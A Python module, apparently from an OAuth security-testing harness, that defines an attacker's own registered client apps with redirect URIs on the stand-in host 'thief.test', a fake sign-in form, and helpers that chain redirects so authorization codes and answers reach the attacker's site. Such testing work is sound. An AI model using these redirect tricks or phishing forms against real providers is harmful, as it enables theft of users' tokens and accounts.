"""The attacker's own apps at the provider, registered there like everybody's (RFC 9700 A1).

The second has a secret and a web site. Who has allowed it once is not asked again. The third exists
where a redirect URI may be a script.
"""

import secrets
from dataclasses import dataclass, field, replace
from urllib.parse import urlencode

from attacker.redirect_handlers import web_site
from attacker.redirect_handlers.script import sign_in_form_for
from attacker.token_request import Bent, identified

OWN_CLIENT_ID = "torch"
OWN_NAME = "Torch"
OWN_REDIRECT_URI = "https://torch.thief.test/callback"

OWN_WEB_CLIENT_ID = "torch-web"
OWN_WEB_REDIRECT_URI = f"{web_site.ADDRESS}{web_site.CALLBACK}"
OWN_WEB_SECRET = secrets.token_urlsafe(24)

OWN_SCRIPT_CLIENT_ID = "torch-script"
OWN_SCRIPT = sign_in_form_for(OWN_WEB_REDIRECT_URI)


@dataclass(frozen=True)
class OwnClient:
    """An app of the attacker's own, as the server knows it; ``scope`` is what it may ask for."""

    client_id: str
    redirect_uri: str
    secret: str | None = field(default=None, repr=False)
    secret_in_header: bool = False
    named_in_form: bool = False
    scope: str = "openid"

    def as_itself(self) -> Bent:
        """What makes a token request one of this app's."""
        return identified(
            self.client_id, self.secret, self.secret_in_header, named_in_form=self.named_in_form
        )

    def with_own_code(self) -> Bent:
        """What makes it this app's request for a code of its own (RFC 6749 section 4.1.3)."""
        itself = self.as_itself()
        return replace(itself, changes={**itself.changes, "redirect_uri": self.redirect_uri})


TORCH = OwnClient(OWN_CLIENT_ID, OWN_REDIRECT_URI)

AS_PARTNER = f"?{urlencode({'next': web_site.ADDRESS})}"
"""What a client's redirect URI ends with for logins that begin at the attacker's portal."""

ASKS_FOR_ADDRESS = f"{web_site.ADDRESS}/seen?{web_site.CARRIER}="
"""A form on the attacker's site into which visitors are to paste an address, up to that address."""


def by_way_of_refusal(authorization_endpoint: str) -> str:
    """What it ends with for an answer to be passed on to the server, and by that to the attacker.

    The server is asked in the name of nobody, so it has to refuse. Where the redirect URI of that
    request ends, the answer is put behind it.
    """
    asked = urlencode({"client_id": "nobody", "redirect_uri": OWN_WEB_REDIRECT_URI})
    return f"?{urlencode({'next': f'{authorization_endpoint}?{asked}'})}"
